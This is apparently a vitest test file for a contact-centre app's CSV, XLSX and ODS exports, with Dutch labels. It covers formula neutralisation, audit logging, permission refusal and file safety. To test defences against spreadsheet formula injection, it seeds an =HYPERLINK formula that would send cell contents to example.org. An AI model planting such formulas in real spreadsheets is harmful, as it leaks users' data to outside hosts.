import { existsSync, readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { readOds } from 'hucre/ods';
import readXlsxFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { newId } from '#shared/domain/ids.ts';
import { type ExportRequest } from '#shared/domain/office.ts';
import { dayOf } from '#shared/domain/quality/periods.ts';
import { FoundCustomers } from '../../../electron/store/exports/found-customers.ts';
import { testCentre } from '../../fixtures/centre.ts';
import { orderRow } from '../../fixtures/ordering.ts';
import { withDatabase } from '../store/support/raw-database.ts';
import { arrive, outboxOf, seed } from '../store/support/seed.ts';
import { answer, hangUp, ring, type StoreBench } from '../store/support/store-bench.ts';
import { cellsIn, desk } from './export-bench.ts';
import { central, checkedId, hostile, strangerId } from './lead-central.ts';

const synced = { version: 1, updatedAt: '2026-01-05T08:00:00.000Z' };
const customer = { ...synced, kind: 'person' as const, salutation: 'none' as const, organisationName: null, vatNumber: null, birthDate: null, language: 'nl' as const, segment: 'new' as const, archived: false };

const history: ExportRequest = { list: 'history', text: '', kind: 'all' };

async function oneCall(bench: StoreBench, number = '+32470112200'): Promise<void> {
  const call = await ring(bench, number);
  await answer(bench, call);
  await hangUp(bench, call);
}

/** A colleague whose name is a formula, with line breaks and quotes beside it. */
function poison({ path }: StoreBench): void {
  withDatabase(path, (handle) =>
    handle
      .prepare(`INSERT INTO directory_entry (id, version, updated_at, name, department, number, competences) VALUES ('01890000-0000-7000-8000-00000000dead', 1, '', ?, ?, '+32 9 225 41 07', '[]')`)
      .run(hostile, '"; regel\ntwee'),
  );
}

describe('a list as a file', () => {
  it('is a CSV file that every spreadsheet opens and none computes', async () => {
    const { bench, save } = await desk();
    poison(bench);
    const { path, rows } = await save({ list: 'directory', text: '' }, 'csv');
    const text = readFileSync(path, 'utf8');
    expect(text.startsWith('\uFEFF"Naam";')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://example.org/?""&A1,""Klik"")";"""; regel\ntwee";"'+32 9 225 41 07"`);
    expect(rows).toBeGreaterThan(0);
    expect(text.match(/\r\n/g)).toHaveLength((rows ?? 0) + (text.endsWith('\r\n') ? 1 : 0));
  });

  it('is a workbook, read back by another library: text is text, dates are dates, durations are numbers', async () => {
    const { bench, save } = await desk();
    poison(bench);
    const directory = await save({ list: 'directory', text: '' }, 'xlsx');
    const [sheet] = await readXlsxFile(directory.path);
    expect(sheet?.data[1]?.[0]).toBe(hostile);
    expect(strFromU8(unzipSync(readFileSync(directory.path))['xl/worksheets/sheet1.xml']!)).not.toMatch(/<f[ >]/);
    await oneCall(bench);
    const { path } = await save(history, 'xlsx');
    const [calls] = await readXlsxFile(path);
    expect(calls?.data[0]?.slice(0, 3)).toEqual(['Wanneer', 'Richting', 'Naam']);
    const [when, direction, , number, , answered, seconds] = calls?.data[1] ?? [];
    expect(when).toBeInstanceOf(Date);
    expect([direction, number, answered, typeof seconds]).toEqual(['binnenkomend', '+32470112200', 'opgenomen', 'number']);
  });

  it('is an OpenDocument spreadsheet, read back by another library', async () => {
    const { bench, save } = await desk();
    poison(bench);
    const directory = await save({ list: 'directory', text: '' }, 'ods');
    const bytes = readFileSync(directory.path);
    // The first entry, stored, at its fixed place: what `file` and every office program look for.
    expect(bytes.subarray(30, 84).toString('latin1')).toBe('mimetypeapplication/vnd.oasis.opendocument.spreadsheet');
    const [sheet] = (await readOds(bytes)).sheets;
    expect(sheet?.rows[0]?.[0]).toBe('Naam');
    expect(sheet?.rows[1]?.slice(0, 3)).toEqual([hostile, '"; regel\ntwee', '+32 9 225 41 07']);
    expect(strFromU8(unzipSync(bytes)['content.xml']!)).not.toContain('table:formula');
    await oneCall(bench);
    const { path } = await save(history, 'ods');
    const [calls] = (await readOds(readFileSync(path))).sheets;
    expect(calls?.rows[1]?.[0]).toBeInstanceOf(Date);
    expect(calls?.rows[1]?.[3]).toBe('+32470112200');
  });

  it('is written down for central before it is there: what and how much, never what was in it', async () => {
    const { bench, save } = await desk();
    await oneCall(bench);
    await save(history, 'csv');
    const logged = outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport');
    expect(logged).toMatchObject([{ baseVersion: null, patch: { list: 'history', format: 'csv', rows: 1, customerId: null } }]);
    expect(JSON.stringify(logged)).not.toContain('32470112200');
  });

  it('is refused by main where the centre does not let this operator: nothing is asked, nothing is written', async () => {
    const { bench, folder, save } = await desk({ allowed: ['history'] });
    await expect(save({ list: 'customers', text: 'peeters' }, 'xlsx')).rejects.toMatchObject({ code: 'office.not-allowed' });
    expect(existsSync(join(folder, 'lijst.xlsx'))).toBe(false);
    expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toEqual([]);
  });

  it('of all that happened with a customer has every kind of line, in words; orders and teams are lists of their own', async () => {
    const { bench, save } = await desk();
    const centre = seed(bench.path);
    const customerId = centre.customers[0]!.id;
    const agent = { version: 1, updatedAt: '2026-01-05T08:00:00.000Z', username: 'x', extension: '207', languages: ['nl', 'fr'] as ('nl' | 'fr')[] };
    arrive(bench.path, 'agent', [{ ...agent, id: newId(), name: 'Zoë', team: 'Avond' }, { ...agent, id: newId(), name: 'An', team: 'Bestellingen' }]);
    const history = [{ state: 'confirmed', at: '2026-03-02T08:00:00.000Z', by: null }, { state: 'shipped', at: '2026-03-03T08:00:00.000Z', by: null }] as const;
    arrive(bench.path, 'order', [orderRow({ customerId, history: [...history] })]);
    await bench.workspace.call('note.add', { customerId, text: 'Belt na 17 uur', pinned: false });
    await bench.workspace.call('promise.add', { customerId, text: 'Terugbellen', dueAt: '2026-12-01T16:00:00.000Z', caseId: null, mine: true });
    await bench.workspace.call('consent.add', { customerId, channel: 'phone', purpose: 'any', state: 'withdrawn', source: 'call', how: 'gezegd' });
    await bench.workspace.call('customer.change', { id: customerId, change: { customer: { givenName: 'Piet' } } });
    const lines = async (request: ExportRequest): Promise<string[][]> => cellsIn((await save(request, 'csv')).path);
    const timeline = await lines({ list: 'timeline', customerId });
    expect(timeline.map(([, kind, , what, state, , , , content, remark]) => [kind, what, state, content, remark])).toEqual([
      ['kind.correction', 'correction.customer.givenName', '', 'Piet', 'Pieter'],
      ['kind.consent', 'consent.phone.any', 'consent.withdrawn', '', 'gezegd'],
      ['kind.promise', '', 'promise.open', 'Terugbellen', ''],
      ['kind.note', '', '', 'Belt na 17 uur', ''],
      ['kind.order', '', 'order.shipped', '2 × Proefdoos Loire', ''],
      ['kind.order', '', 'order.confirmed', '2 × Proefdoos Loire', ''],
    ]);
    for (const of of [customerId, null]) expect((await lines({ list: 'orders', customerId: of })).map(([, number, state, , name, products, total]) => [number, state, name, products, total])).toEqual([['O-100204', 'order.shipped', 'Piet De Smet', '2 × Proefdoos Loire', '108']]);
    expect(await lines({ list: 'team' })).toEqual([['Zoë', 'Avond', '207', 'nl, fr'], ['An', 'Bestellingen', '207', 'nl, fr']]);
  });

  it('of the catalogue, what is to do, reservations, cases and promises has every row, also those past the first page', async () => {
    const { bench, save } = await desk();
    const centre = seed(bench.path);
    const customerId = centre.customers[0]!.id;
    const lines = async (request: ExportRequest): Promise<string[][]> => cellsIn((await save(request, 'csv')).path);
    const { product: [product], capacitySlot: [slot] } = centre.shop;
    const many = Array.from({ length: 234 }, (_, index) => ({ ...product!, id: newId(), sku: `WIJN-${1_000 + index}`, name: { nl: 'Zonneproef' }, active: index !== 0 }));
    arrive(bench.path, 'product', many);
    arrive(bench.path, 'stock', [{ ...centre.shop.stock[0]!, id: newId(), productId: many[1]!.id, onHand: 12, allocated: 3, held: 2 }]);
    const words = await lines({ list: 'products', text: 'zonnep' });
    expect(words.map(([sku]) => sku)).toEqual(many.slice(1).map(({ sku }) => sku));
    expect(words[0]).toEqual([many[1]!.sku, 'Zonneproef', expect.any(String), String(product!.priceCents / 100), String(product!.vatRate / 100), '7', '12', expect.any(String)]);
    expect((await lines({ list: 'products', text: '' })).map(([sku]) => sku)).toEqual(expect.arrayContaining([product!.sku, ...many.slice(1).map(({ sku }) => sku)]));
    arrive(bench.path, 'reservation', [{ ...synced, id: newId(), number: 'R-1', customerId, interactionId: null, agentId: null, slotId: slot!.id, seats: 2, state: 'confirmed', note: hostile, at: synced.updatedAt }]);
    expect((await lines({ list: 'reservations' })).map(([, ...cells]) => cells.slice(0, 8))).toEqual([['R-1', 'order.confirmed', expect.any(String), 'Pieter De Smet', slot!.title.nl, slot!.day, slot!.from, '2']]);
    const work = { customerId, priority: 'high' as const, ownerId: null, queueId: null, interactionId: null };
    arrive(bench.path, 'promise', Array.from({ length: 150 }, (_, index) => ({ ...synced, ...work, id: newId(), caseId: null, text: `Belofte ${index}`, state: index === 0 ? ('kept' as const) : ('open' as const), dueAt: '2026-12-01T16:00:00.000Z', madeAt: synced.updatedAt, madeBy: null, doneAt: null })));
    const complaint = { ...synced, ...work, id: newId(), kind: 'complaint' as const, caseNumber: 'Z-1', state: 'closed' as const, subject: 'Fles gebroken', description: '', openedAt: synced.updatedAt, openedBy: null, dueAt: null, closedAt: synced.updatedAt, result: 'Vergoed', procedureId: null, collected: {}, readBackAt: null };
    arrive(bench.path, 'case', [complaint]);
    const due = await lines({ list: 'due', whose: 'own' });
    expect([due.length, ...due[0]!.slice(1)]).toEqual([149, 'kind.promise', '', 'Pieter De Smet', expect.stringMatching(/^Belofte/), 'priority.high', '']);
    const cases = await lines({ list: 'cases' });
    expect(cases[0]!.slice(1, 8)).toEqual(['case.complaint', 'Z-1', 'case.closed', expect.any(String), 'Pieter De Smet', 'Fles gebroken', 'priority.high']);
    expect([cases.length, new Set(cases.map(([, , , , , , content]) => content)).size]).toEqual([151, 151]);
    expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport').map(({ patch }) => (patch as { list: string }).list)).toEqual(['products', 'products', 'reservations', 'due', 'cases']);
  });

  it('of the figures of queues has the whole time, what was agreed and each week, as central tells them', async () => {
    const { bench, save } = await desk();
    const { path } = await save({ list: 'queueFigures', from: '2026-03-01T23:00:00.000Z', until: '2026-03-08T23:00:00.000Z', bucket: 'week', timeZone: 'Europe/Brussels', team: 'Avond' }, 'xlsx');
    const [sheet] = await readXlsxFile(path);
    expect(sheet?.data.slice(1).map((row) => row.slice(0, 8))).toEqual([
      [hostile, 'Avond', 'figures.whole', '2026-03-02', '2026-03-08', 2, 12.3, 50],
      [hostile, 'Avond', 'figures.agreed', null, null, null, 20, 80],
      [hostile, 'Avond', 'figures.week', '2026-03-02', '2026-03-08', 2, 12.3, 50],
      ['Stil', 'Avond', 'figures.whole', '2026-03-02', '2026-03-08', 0, null, null],
      ['Stil', 'Avond', 'figures.agreed', null, null, null, 20, 80],
    ]);
    expect(sheet?.data[1]?.[13]).toBe(12.3);
    expect(central.asked).toEqual([expect.stringMatching(/^\/v1\/quality-overview\?.*team=Avond/)]);
    expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toMatchObject([{ patch: { list: 'queueFigures', format: 'xlsx', rows: 5, customerId: null } }]);
  });

  it('of the trail of identity checks has every page that central tells, with names as far as this device has them', async () => {
    const { bench, save } = await desk();
    arrive(bench.path, 'customer', [{ ...testCentre().rows.customer![0]!, id: checkedId, givenName: '=1+1', familyName: 'Maes' }]);
    const { path } = await save({ list: 'identityChecks', from: '2026-03-01T23:00:00.000Z', until: null, agentId: null, customerId: null, kind: null }, 'xlsx');
    const [sheet] = await readXlsxFile(path);
    expect(sheet?.data.slice(1).map((row) => row.slice(1))).toEqual([
      [null, '=1+1 Maes', 'check.postcode', 'answer.wrong', null, strangerId],
      [null, null, null, 'answer.gave-up', null, strangerId],
    ]);
    expect(central.asked.slice(-2)).toEqual([expect.stringMatching(/identity-checks\?atFrom=2026-03-01T23%3A00%3A00.000Z$/), expect.stringContaining('cursor=abc')]);
    expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toMatchObject([{ patch: { list: 'identityChecks', rows: 2 } }]);
  });

  it("of the operator's own figures is what their page shows", async () => {
    const { bench, save } = await desk();
    await oneCall(bench);
    const { path, rows } = await save({ list: 'figures', queue: null, days: 28, bucket: 'day', timeZone: 'Europe/Brussels' }, 'csv');
    const { whole } = await bench.workspace.call('quality.figures', { queue: null, days: 28, bucket: 'day', timeZone: 'Europe/Brussels' });
    const [, line = ''] = readFileSync(path, 'utf8').trimEnd().split('\r\n');
    expect(line.split(';').slice(0, 5).map((cell) => cell.slice(1, -1))).toEqual(['', 'figures.whole', expect.stringMatching(/^\d{4}-\d\d-\d\d$/), dayOf(new Date().toISOString(), 'Europe/Brussels'), String(whole.conversations)]);
    expect(rows).toBe(whole.conversations === 0 ? 1 : 2);
  });

  it('of found customers has every find of the query once, by words, by numbers and with a typing error, and refuses more than a file holds', async () => {
    const { bench, save } = await desk();
    const many = Array.from({ length: 2_345 }, (_, index) => ({ ...customer, id: newId(), customerNumber: `ZZ-${700_000 + index}`, familyName: 'Zwartendijk', givenName: index % 2 === 0 ? 'Wout' : 'Nele' }));
    arrive(bench.path, 'customer', many);
    arrive(bench.path, 'contactPoint', many.map(({ id }, index) => ({ ...synced, id: newId(), customerId: id, kind: 'mobile' as const, value: `+3249${String(9_000_000 + index)}`, preferred: true })));
    const numbers = async (text: string): Promise<string[]> => {
      const { path } = await save({ list: 'customers', text }, 'csv');
      return readFileSync(path, 'utf8').trimEnd().split('\r\n').slice(1).map((line) => line.split(';')[0]?.slice(1, -1) ?? '');
    };
    const all = many.map(({ customerNumber }) => customerNumber);
    for (const text of ['zwartendijk', 'zwartendijl', 'ZZ-70', '0499', '+324990']) expect([text, (await numbers(text)).sort()]).toEqual([text, all]);
    expect(await numbers('wout zwart')).toHaveLength(1_173);
    expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport').at(-1)).toMatchObject({ patch: { list: 'customers', rows: 1_173 } });
    const page = async (most: number) => await new FoundCustomers(most).page(bench.store.context, 'zwartendijk', null, (action) => action());
    await expect(page(2_344)).rejects.toMatchObject({ code: 'office.too-many', details: { most: 2_344 } });
    expect((await page(2_345)).rows).toHaveLength(100);
    // A page of an export that this store does not know.
    await expect(bench.main.call('export.page', { request: { list: 'customers', text: 'x' }, after: `${newId()}:100`, language: 'nl' })).rejects.toMatchObject({ code: 'store.not-ready' });
  });

  it('that the operator does not save after all is not written down', async () => {
    const { bench, save } = await desk({ cancels: true });
    expect((await save(history, 'csv')).rows).toBeNull();
    expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toEqual([]);
  });

  it('that cannot be written leaves nothing behind, and the file that was there as it was', async () => {
    const { bench, folder, save } = await desk();
    await oneCall(bench);
    const { path } = await save(history, 'csv');
    const before = readFileSync(path, 'utf8');
    await bench.store.close();
    await expect(save(history, 'csv')).rejects.toMatchObject({ code: 'store.not-ready' });
    expect(readFileSync(path, 'utf8')).toBe(before);
    expect(readdirSync(folder).filter((name) => name.endsWith('.part'))).toEqual([]);
    const nowhere = await desk({ folder: '/nowhere/at/all' });
    await expect(nowhere.save(history, 'ods')).rejects.toMatchObject({ code: 'office.not-written' });
  });

  it('has every call of a long history once, newest first, and is readable by the operator alone', async () => {
    const { bench, save } = await desk();
    withDatabase(bench.path, (handle) =>
      handle.exec(`
        WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1234)
        INSERT INTO interaction (id, version, updated_at, channel, direction, state, number, started_at, sentence, note, captured, interrupted)
          SELECT printf('01890000-0000-7000-8000-%012d', i), 1, '', 'voice', 'inbound', 'closed', printf('+3292%06d', i), strftime('%Y-%m-%dT%H:%M:%fZ', '2026-03-02T08:00:00', (i / 3) || ' seconds'), '', '', '{}', 0 FROM n;
        INSERT INTO call_leg (id, version, updated_at, interaction_id, call_id, direction, started_at) SELECT id, 1, '', id, id, direction, started_at FROM interaction WHERE version = 1;`),
    );
    const { path, rows } = await save(history, 'csv');
    const lines = readFileSync(path, 'utf8').trimEnd().split('\r\n').slice(1);
    expect(rows).toBe(1234);
    expect(new Set(lines.map((line) => line.split(';')[3])).size).toBe(1234);
    expect(statSync(path).mode & 0o077).toBe(0);
  });
});
